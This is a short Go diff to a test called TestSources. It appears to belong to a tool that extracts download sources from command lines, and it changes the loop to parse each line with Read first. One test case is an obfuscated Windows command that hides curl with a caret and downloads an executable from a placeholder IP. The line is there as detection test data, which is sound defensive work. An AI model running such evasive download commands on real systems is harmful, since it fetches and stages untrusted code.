@@ -50,7 +50,8 @@ func TestSources(t *testing.T) {
 		{`cmd /c c^url http://192.0.2.1/a.exe -o a`, a},
 		{"", ""},
 	} {
-		if got := strings.Join(Sources(tt.line), " | "); got != tt.want {
+		uses, _ := Read(tt.line)
+		if got := strings.Join(Sources(uses), " | "); got != tt.want {
 			t.Errorf("%s:\ngot  %s\nwant %s", tt.line, got, tt.want)
 		}
 	}
